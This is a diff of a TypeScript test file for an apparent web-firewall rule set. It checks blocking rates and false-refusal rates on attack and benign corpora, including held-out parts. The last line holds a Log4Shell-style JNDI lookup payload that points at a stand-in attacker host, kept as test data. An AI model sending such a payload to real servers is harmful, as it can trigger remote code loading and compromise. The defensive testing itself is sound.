@@ -1,34 +1,38 @@
 import assert from 'node:assert/strict'
 import { test } from 'node:test'
 import { compileRules } from './compile.ts'
-import { type CorpusCase, loadCorpus } from './test-corpus.ts'
+import { type CorpusCase, type CorpusPart, loadCorpus } from './test-corpus.ts'
+import { countClasses } from './test-corpus-table.ts'
 import { baseRuleSources, send } from './test-requests.ts'
 
 const rules = compileRules(baseRuleSources(), { paranoia: 1 })
 
-function byClass(cases: readonly CorpusCase[]): Map<string, CorpusCase[]> {
-  const classes = new Map<string, CorpusCase[]>()
-  for (const one of cases) classes.set(one.class, [...(classes.get(one.class) ?? []), one])
-  return classes
-}
-
 const describe = ({ placement, text }: CorpusCase): string => `${placement}: ${text}`
 
-test('at least 95 % of the attacks of every class are refused', () => {
-  for (const [name, cases] of byClass(loadCorpus('attacks'))) {
-    const missed = cases.filter(({ sent }) => !send(rules, sent).blocked)
-    assert.ok(
-      missed.length <= cases.length * 0.05,
-      `${name}: ${missed.length} of ${cases.length} pass:\n${missed.map(describe).join('\n')}`,
-    )
-  }
-})
+for (const part of ['attacks', 'held-out/attacks'] as const) {
+  test(`at least 95 % of the attacks of every class are refused: ${part}`, () => {
+    for (const { class: name, requests, wrong } of countClasses(rules, part))
+      assert.ok(
+        wrong.length <= requests * 0.05,
+        `${name}: ${wrong.length} of ${requests} pass:\n${wrong.map(describe).join('\n')}`,
+      )
+  })
+}
 
-test('at most 0.2 % of what only looks like an attack is refused', () => {
-  const cases = loadCorpus('benign')
-  const refused = cases.filter(({ sent }) => send(rules, sent).blocked)
-  const why = refused.map((one) => `${send(rules, one.sent).matches.map(({ ruleId }) => ruleId)} ${describe(one)}`)
-  assert.ok(refused.length <= cases.length * 0.002, `${refused.length} of ${cases.length} refused:\n${why.join('\n')}`)
+for (const part of ['benign', 'held-out/benign'] as const) {
+  test(`at most 0.2 % of what only looks like an attack is refused: ${part}`, () => {
+    const counts = countClasses(rules, part)
+    const requests = counts.reduce((sum, count) => sum + count.requests, 0)
+    const wrong = counts.flatMap((count) => count.wrong)
+    const why = wrong.map((one) => `${send(rules, one.sent).matches.map(({ ruleId }) => ruleId)} ${describe(one)}`)
+    assert.ok(wrong.length <= requests * 0.002, `${wrong.length} of ${requests} refused:\n${why.join('\n')}`)
+  })
+}
+
+test('the corpus is as large as it is said to be', () => {
+  const size = (part: CorpusPart): number => new Set(loadCorpus(part).map(({ class: name, text }) => `${name} ${text}`)).size
+  assert.ok(size('attacks') >= 2_000, `${size('attacks')} attacks`)
+  assert.ok(size('benign') >= 5_000, `${size('benign')} honest texts`)
 })
 
 const LOOKUP = '$' + '{jndi:ldap://evil.example/a}'
